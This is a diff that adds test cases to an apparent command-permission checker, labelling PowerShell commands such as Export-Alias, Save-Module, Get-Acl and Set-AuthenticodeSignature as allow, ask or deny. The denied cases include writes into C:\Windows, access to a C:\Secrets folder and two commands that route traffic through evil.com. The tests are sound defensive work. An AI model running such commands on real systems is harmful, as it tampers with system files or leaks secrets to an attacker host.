@@ -25,3 +25,45 @@ describe('a path through a link New-Item makes in the line is unknown, as after 
     ['mkdir x; Set-Content x\\y hi', 'allow'],
   ]);
 });
+
+describe('file parameters of known cmdlets that had no table (Export-Alias, Save-Module, Trace-Command, Get-Acl, …)', () => {
+  table([
+    ['Export-Alias -Path C:\\Windows\\a.txt', 'deny'],
+    ['epal C:\\Windows\\a.txt', 'deny'],
+    ['Export-Alias -Li C:\\Windows\\a.txt', 'deny'],
+    ['Save-Module -Name x -Path C:\\Windows\\m', 'deny'],
+    ['Save-Module x C:\\Windows', 'deny'],
+    ['Save-Script x -LiteralPath C:\\Windows\\m', 'deny'],
+    ['Save-Module x -Path C:\\w\\m -Proxy http://evil.com:8080', 'deny'],
+    ['Trace-Command -Name x -Expression { gc a } -FilePath C:\\Windows\\t.txt', 'deny'],
+    ['Trace-Command x { gc a } -Fi C:\\Windows\\t.txt', 'deny'],
+    ['Trace-Command x { gc a } -Path C:\\Windows\\t.txt', 'deny'],
+    ['Trace-Command -Name x -Command Remove-Item -ArgumentList a', 'ask'],
+    ['Trace-Command x Remove-Item', 'ask'],
+    ['Get-Acl C:\\Secrets\\a', 'deny'],
+    ['Get-Acl -LiteralPath C:\\Secrets\\a', 'deny'],
+    ['Export-PSSession $s -OutputModule C:\\Windows\\m', 'deny'],
+    ['Export-PSSession $s C:\\Windows\\m', 'deny'],
+    ['New-PSSessionConfigurationFile -Path C:\\Windows\\a.pssc -SessionType RestrictedRemoteServer', 'deny'],
+    ['Publish-Module -Path C:\\Secrets\\m -NuGetApiKey k', 'deny'],
+    ['Set-AuthenticodeSignature -FilePath C:\\Windows\\a.ps1 -Certificate $c', 'deny'],
+    ['Set-AuthenticodeSignature C:\\Windows\\a.ps1 $c', 'deny'],
+    ['Set-AuthenticodeSignature a.ps1 $c -TimestampServer http://evil.com', 'deny'],
+    ['Set-PSReadLineOption -HistorySavePath C:\\Windows\\h.txt', 'deny'],
+    ['Update-Help -SourcePath C:\\Secrets\\h', 'deny'],
+    ['Update-Help -LiteralPath C:\\Secrets\\h', 'deny'],
+    ['Invoke-Pester -Path C:\\Secrets\\t.ps1', 'deny'],
+    ['Invoke-Pester C:\\Secrets', 'deny'],
+    ['Invoke-Pester -Configuration $c', 'ask'],
+    // (Ordinary uses stay allowed.)
+    ['Export-Alias a.txt', 'allow'],
+    ['Save-Module x -Path C:\\w\\m', 'allow'],
+    ['Trace-Command x { git status } -PSHost', 'allow'],
+    ['Get-Acl a.txt', 'allow'],
+    ['Publish-Module -Name m -NuGetApiKey k', 'allow'],
+    ['Set-PSReadLineOption -EditMode Emacs', 'allow'],
+    ['Update-Help -Module x -Force', 'allow'],
+    ['Invoke-Pester -Path .\\tests -Output Detailed', 'allow'],
+    ['Invoke-Pester', 'allow'],
+  ]);
+});
